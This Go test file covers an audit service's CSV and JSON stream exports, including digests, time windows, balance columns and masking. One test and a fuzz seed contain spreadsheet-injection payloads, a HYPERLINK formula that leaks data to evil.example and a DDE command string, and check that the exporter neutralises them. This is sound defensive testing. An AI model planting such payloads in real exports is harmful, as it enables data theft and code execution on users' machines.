package web

import (
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/auditd/auditd/internal/eventstore"
)

// csvExport is a CSV export read back: its comment lines, the event
// section (header and rows) and the state section's rows; digest is the
// last line's.
type csvExport struct {
	comments []string
	header   []string
	events   [][]string
	state    [][]string
	digest   string
	// eventBytes are the event rows exactly as written, to recompute the
	// digest.
	eventBytes []byte
}

func readCSVExport(t *testing.T, body string) csvExport {
	t.Helper()
	var x csvExport
	lines := strings.SplitAfter(body, "\r\n")
	if lines[len(lines)-1] == "" {
		lines = lines[:len(lines)-1]
	}
	last := strings.TrimSuffix(lines[len(lines)-1], "\r\n")
	if !strings.HasPrefix(last, "# sha256 ") {
		t.Fatalf("the last line is not the digest: %q", last)
	}
	x.digest = strings.TrimPrefix(last, "# sha256 ")
	r := csv.NewReader(strings.NewReader(body))
	r.Comment, r.FieldsPerRecord = '#', -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range lines {
		if strings.HasPrefix(l, "# ") {
			x.comments = append(x.comments, strings.TrimSuffix(l, "\r\n"))
		}
		if strings.HasPrefix(l, `"event",`) {
			x.eventBytes = append(x.eventBytes, l...)
		}
	}
	x.header = rows[0]
	for _, row := range rows[1:] {
		switch row[0] {
		case "event":
			x.events = append(x.events, row)
		case "state":
			x.state = append(x.state, row)
		}
	}
	return x
}

// stateRow is the state section's row of path.
func (x csvExport) stateRow(path string) []string {
	for _, r := range x.state {
		if r[1] == path {
			return r
		}
	}
	return nil
}

func TestExportCSVStreamsTheTrailAndTheState(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter-1", 1203, tlT0) // more than two export pages

	before := time.Now().UTC()
	rec := b.get("/streams/counter-1/export.csv", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	if cd := rec.Header().Get("Content-Disposition"); cd != `attachment; filename=counter-1-audit.csv` {
		t.Errorf("Content-Disposition = %q", cd)
	}
	if !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") || !rec.Flushed {
		t.Errorf("Content-Type %q flushed %v", rec.Header().Get("Content-Type"), rec.Flushed)
	}
	x := readCSVExport(t, rec.Body.String())
	if strings.Join(x.header, ",") != strings.Join(exportCSVHeader, ",") {
		t.Errorf("header = %v", x.header)
	}
	if len(x.events) != 1203 {
		t.Fatalf("event rows = %d", len(x.events))
	}
	if r := x.events[0]; r[5] != "1" || r[6] != "Set" || r[9] != "agent:m.okafor" || r[13] != `{"note": "v1", "balance": 1}` {
		t.Errorf("first event row = %q", r)
	}
	// The state is a section of its own, a row per field with its blame.
	if r := x.stateRow("/balance"); r == nil || r[2] != "1203" || r[3] != "1203" || r[4] != "Set" {
		t.Errorf("state rows = %q", x.state)
	}
	// What the export is: when, which stream, which window; and its digest,
	// which is the SHA-256 of the event rows and the trailer's value.
	head := strings.Join(x.comments, "\n")
	if !strings.Contains(head, "of stream counter-1") || !strings.Contains(head, "window from (unbounded) to (unbounded)") {
		t.Errorf("comments = %s", head)
	}
	var exportedAt time.Time
	for _, c := range x.comments {
		if v, ok := strings.CutPrefix(c, "# exported_at "); ok {
			exportedAt, _ = time.Parse(time.RFC3339Nano, v)
		}
	}
	if exportedAt.Before(before.Add(-time.Second)) || exportedAt.After(time.Now().Add(time.Second)) {
		t.Errorf("exported_at = %v", exportedAt)
	}
	sum := sha256.Sum256(x.eventBytes)
	if want := hex.EncodeToString(sum[:]); x.digest != want {
		t.Errorf("digest %s, recomputed %s", x.digest, want)
	}
	if tr := rec.Result().Trailer.Get(exportDigestTrailer); tr != x.digest {
		t.Errorf("trailer %q, in the file %q", tr, x.digest)
	}

	// A window: events and the state at its end; the window is said.
	from := tlT0.Add(10 * time.Hour).Format(time.RFC3339)
	to := tlT0.Add(20*time.Hour + 30*time.Minute).Format("2006-01-02T15:04")
	x = readCSVExport(t, b.get("/streams/counter-1/export.csv?from="+from+"&to="+to, "").Body.String())
	if len(x.events) != 11 || x.events[0][5] != "10" || x.events[10][5] != "20" || x.stateRow("/balance")[2] != "20" {
		t.Errorf("window rows = %d, first v%s, state %q", len(x.events), x.events[0][5], x.state)
	}
	if head := strings.Join(x.comments, "\n"); !strings.Contains(head, "window from "+tlT0.Add(10*time.Hour).Format(time.RFC3339Nano)+" to ") {
		t.Errorf("window comment: %s", head)
	}
}

// ?balance=/path adds that state field's value after each event, folded
// from the state before the window (not from zero).
func TestExportCSVBalanceColumn(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter-1", 30, tlT0)
	from := tlT0.Add(10 * time.Hour).Format(time.RFC3339)
	x := readCSVExport(t, b.get("/streams/counter-1/export.csv?balance=/balance&from="+from, "").Body.String())
	if x.header[len(x.header)-1] != "/balance" || len(x.events) != 21 {
		t.Fatalf("header %q, %d events", x.header, len(x.events))
	}
	for _, r := range x.events {
		if r[len(r)-1] != r[5] { // the counter's balance is its version
			t.Errorf("v%s: balance after = %q", r[5], r[len(r)-1])
		}
	}
	if rec := b.get("/streams/counter-1/export.csv?balance=balance", "text/html"); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "invalid balance") {
		t.Errorf("bad balance: %d", rec.Code)
	}
}

func TestExportJSONIsValidAndWindowed(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter 1/ü", 700, tlT0)
	rec := b.get("/streams/counter%201%2F%C3%BC/export.json?to="+tlT0.Add(650*time.Hour).Format(time.RFC3339), "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	if cd := rec.Header().Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, "counter_1__-audit.json") {
		t.Errorf("Content-Disposition = %q", cd)
	}
	var doc struct {
		Stream struct {
			StreamID string `json:"stream_id"`
			Version  int    `json:"version"`
		} `json:"stream"`
		To     time.Time `json:"to"`
		Events []struct {
			Version int             `json:"version"`
			Payload json.RawMessage `json:"payload"`
		} `json:"events"`
		State struct {
			Version int                        `json:"version"`
			State   map[string]any             `json:"state"`
			Blame   map[string]json.RawMessage `json:"blame"`
		} `json:"state"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &doc); err != nil {
		t.Fatalf("invalid JSON: %v", err)
	}
	// The digest is the last member, over the events as written; the
	// trailer repeats it.
	var raw struct {
		Export struct {
			Format     string    `json:"format"`
			ExportedAt time.Time `json:"exported_at"`
			To         time.Time `json:"to"`
		} `json:"export"`
		Events []json.RawMessage `json:"events"`
		SHA256 string            `json:"sha256"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &raw); err != nil {
		t.Fatal(err)
	}
	h := sha256.New()
	for _, e := range raw.Events {
		h.Write(e)
		h.Write([]byte("\n"))
	}
	if want := hex.EncodeToString(h.Sum(nil)); raw.SHA256 != want || rec.Result().Trailer.Get(exportDigestTrailer) != want {
		t.Errorf("digest %q, trailer %q, recomputed %q", raw.SHA256, rec.Result().Trailer.Get(exportDigestTrailer), want)
	}
	if raw.Export.Format != exportFormat || time.Since(raw.Export.ExportedAt) > time.Minute || !raw.Export.To.Equal(tlT0.Add(650*time.Hour)) {
		t.Errorf("export = %+v", raw.Export)
	}
	if !strings.HasSuffix(strings.TrimSpace(rec.Body.String()), `"sha256":"`+raw.SHA256+`"}`) {
		t.Error("the digest is not the document's last member")
	}
	if doc.Stream.StreamID != "counter 1/ü" || doc.Stream.Version != 700 || len(doc.Events) != 650 || doc.Events[649].Version != 650 ||
		doc.State.Version != 650 || doc.State.State["balance"] != float64(650) || len(doc.State.Blame) != 2 {
		t.Errorf("export = stream %+v, %d events, state %+v", doc.Stream, len(doc.Events), doc.State)
	}
}

func TestExportBadInput(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "c", 2, tlT0)
	if rec := b.get("/streams/nope/export.csv", "text/html"); rec.Code != http.StatusNotFound {
		t.Errorf("unknown stream = %d", rec.Code)
	}
	if rec := b.get("/streams/c/export.json?from=never", "application/json"); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "invalid from") {
		t.Errorf("bad from = %d %s", rec.Code, rec.Body)
	}
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	actors := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+2", "-160", "@SUM(A1)", "\tTAB", "\rCR", "plain", "'quoted"}
	for i, actor := range actors {
		meta, _ := json.Marshal(map[string]string{"actor": actor, "source": "=cmd|' /C calc'!A0"})
		if _, err := b.store.Append(t.Context(), "csv-1", "Wallet", i,
			eventstore.NewEvent{EventType: "=Set", Payload: json.RawMessage(`{"n": -160}`), Metadata: meta}); err != nil {
			t.Fatal(err)
		}
	}
	rec := b.get("/streams/csv-1/export.csv", "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	body := rec.Body.String()
	x := readCSVExport(t, body)
	if len(x.events) != len(actors) {
		t.Fatalf("rows = %d", len(x.events))
	}
	for i, actor := range actors {
		r := x.events[i]
		want := actor
		if strings.ContainsRune("=+-@\t\r", rune(actor[0])) {
			want = "'" + actor
		}
		if r[9] != want || r[10] != "'=cmd|' /C calc'!A0" || r[6] != "'=Set" {
			t.Errorf("row %d: actor %q source %q type %q; want actor %q", i, r[9], r[10], r[6], want)
		}
		for col, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %s starts with %q", i, exportCSVHeader[col], cell[0])
			}
		}
	}
	if strings.Contains(body, `,=`) {
		t.Errorf("cells are not all quoted: %.200s", body)
	}
}

// FuzzCSVCell: whatever the text, a CSV reader reads the cell back as the
// text itself, or with one leading quote when it would start a formula.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "plain", `=HYPERLINK("x")`, "+1", "-160", "@A1", "\tx", "\rx", `"`, "a,b\nc", "'x", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		rows, err := csv.NewReader(strings.NewReader(csvCell(s) + ",x\r\n")).ReadAll()
		if err != nil {
			t.Fatalf("csvCell(%q) = %q: %v", s, csvCell(s), err)
		}
		want := s
		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			want = "'" + s
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		want = strings.ReplaceAll(want, "\r\n", "\n")
		if len(rows) != 1 || len(rows[0]) != 2 || rows[0][0] != want {
			t.Fatalf("csvCell(%q) reads back as %q, want %q", s, rows, want)
		}
	})
}

// The stream page has a window picker for exports: a GET form whose
// buttons fetch the CSV or the JSON of that window.
func TestTimelineOffersAnExportWindow(t *testing.T) {
	t.Parallel()
	b := setup(t)
	seedCounter(b, "counter-1", 3, tlT0)
	doc := b.page("/streams/counter-1", http.StatusOK)
	form := doc.Find(`[data-testid=export-window] form[data-testid=export-form]`)
	if form.AttrOr("method", "") != "get" || form.AttrOr("action", "") != "/streams/counter-1/export.csv" ||
		form.Find(`[data-testid=export-window-json]`).AttrOr("formaction", "") != "/streams/counter-1/export.json" ||
		form.Find(`input[name=from]`).Length() != 1 || form.Find(`input[name=to]`).Length() != 1 || form.Find(`input[name=balance]`).Length() != 1 {
		t.Fatalf("export form = %v", form.Nodes)
	}
	// What the form sends when left empty (the tz the script fills in
	// included) is a whole-stream export.
	rec := b.get("/streams/counter-1/export.csv?from=&to=&balance=&tz=%2B02:00", "")
	if x := readCSVExport(t, rec.Body.String()); rec.Code != http.StatusOK || len(x.events) != 3 {
		t.Errorf("empty window: %d, %d events", rec.Code, len(x.events))
	}
}

// The balance column of a masked field is masked; one of a field that is
// not personal data is folded from the stored payloads, not the masked
// ones.
func TestExportCSVBalanceColumnMasked(t *testing.T) {
	t.Parallel()
	b := setup(t, func(d *Deps) { d.PII = piiPolicy(t) })
	piiEvents(b)
	body := b.get("/streams/wallet-p/export.csv?balance=/owner/name", "").Body.String()
	noSecrets(t, "the masked field's column", body)
	x := readCSVExport(t, body)
	if len(x.events) != 3 || x.events[0][len(x.events[0])-1] == "" {
		t.Errorf("owner column = %q", x.events)
	}
	// The merge-patch fold of the wallet: amount is set by v2 and kept.
	x = readCSVExport(t, b.get("/streams/wallet-p/export.csv?balance=/amount", "").Body.String())
	if got := []string{x.events[0][15], x.events[1][15], x.events[2][15]}; strings.Join(got, ",") != ",5,5" {
		t.Errorf("amount after each event = %q", got)
	}
}
